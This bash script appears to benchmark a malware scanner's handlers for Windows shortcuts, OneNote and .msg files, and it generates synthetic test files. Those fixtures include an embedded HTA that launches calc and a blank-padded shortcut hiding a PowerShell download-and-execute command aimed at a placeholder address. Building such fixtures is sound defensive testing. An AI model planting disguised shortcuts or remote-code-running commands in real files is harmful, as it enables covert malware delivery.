#!/usr/bin/env bash
# bench/lnk_onenote_msg.sh [MAMORI] [MANIFEST] - speed and memory of the LNK, OneNote and .msg handlers, the
# figures quoted in docs/MEASUREMENTS.md ("Shortcuts, OneNote, Outlook messages").
#   1. every LNK, OneNote and .msg file of the manifest: wall time, peak RSS, per-file latency p50 / max, verdicts
#   2. synthetic worst cases written here (never samples): a 256 MiB OneNote section whose embedded HTA claims
#      2^62 bytes (its footer follows it, then 256 MiB of random bytes), a section with 300 embedded scripts, and a
#      shortcut with 65535 characters of blank-padded arguments
set -euo pipefail
cd "$(dirname "$0")/.."
mamori=${1:-build-release/mamori}
manifest=${2:-/tmp/mamori-corpus/manifest.tsv}
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
if [ -f "$manifest" ]; then
  for kind in lnk onenote; do
    awk -F'\t' -v k="$kind" 'NR==1{for(i=1;i<=NF;i++) c[$i]=i; next} $c["kind"]==k{print $c["path"]}' "$manifest" > "$tmp/$kind.txt"
  done
  awk -F'\t' 'NR==1{for(i=1;i<=NF;i++) c[$i]=i; next} $c["subkind"] ~ /msg/{print $c["path"]}' "$manifest" > "$tmp/msg.txt"
  for kind in lnk onenote msg; do
    [ -s "$tmp/$kind.txt" ] || continue
    echo "== $kind: $(wc -l < "$tmp/$kind.txt") files of $manifest"
    /usr/bin/time -f "peak RSS %M KiB, wall %e s" "$mamori" scan -j 1 --json --files-from "$tmp/$kind.txt" \
      > "$tmp/$kind.json" 2> "$tmp/$kind.time" || true
    tail -1 "$tmp/$kind.time"
    python3 - "$tmp/$kind.json" <<'PY'
import json, sys, collections
ms, verdicts = [], collections.Counter()
for line in open(sys.argv[1]):
    try: d = json.loads(line)
    except ValueError: continue
    ms.append(d.get("elapsed_ms", 0)); verdicts[d["verdict"]] += 1
ms.sort()
if ms: print(f"per file p50 {ms[len(ms)//2]:.2f} ms, max {ms[-1]:.2f} ms; verdicts {dict(verdicts)}")
PY
  done
fi
python3 - "$tmp" <<'PY'
import os, sys, struct
d = sys.argv[1]
section = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
head = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
foot = bytes.fromhex("22a7fb71790f0b4abb13899256426b24")
hta = b'<hta:application/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>'
def obj(data, length=None):
    b = head + struct.pack("<Q", len(data) if length is None else length) + bytes(12) + data
    b += bytes((-len(b)) % 8)
    return b + foot
with open(os.path.join(d, "huge.one"), "wb") as f:
    f.write(section + bytes(1008))
    f.write(obj(hta).replace(struct.pack("<Q", len(hta)), struct.pack("<Q", 1 << 62), 1))
    block = os.urandom(1 << 20)
    for _ in range(256): f.write(block)
with open(os.path.join(d, "many.one"), "wb") as f:
    f.write(section + bytes(1008))
    for i in range(300): f.write(obj(hta))
# A shortcut to cmd.exe whose arguments are 65535 characters, blanks then a command.
args = (" " * 65000 + "/c powershell -w hidden -c iex(iwr http://192.0.2.1/a)").ljust(65535)
hdr = struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046")
hdr += struct.pack("<II", 0x20 | 0x80 | 0x200, 0x20) + bytes(24) + struct.pack("<IiIH", 0, 0, 7, 0)
hdr = hdr.ljust(0x4C, b"\0")
env = struct.pack("<II", 0x314, 0xA0000001) + b"%COMSPEC%".ljust(260, b"\0") + "%COMSPEC%".encode("utf-16le").ljust(520, b"\0")
with open(os.path.join(d, "padded.lnk"), "wb") as f:
    f.write(hdr + struct.pack("<H", len(args)) + args.encode("utf-16le") + env + bytes(4))
PY
for f in huge.one many.one padded.lnk; do
  echo "== synthetic $f ($(stat -c %s "$tmp/$f") bytes)"
  /usr/bin/time -f "peak RSS %M KiB, wall %e s" "$mamori" scan --no-summary "$tmp/$f" || true
done
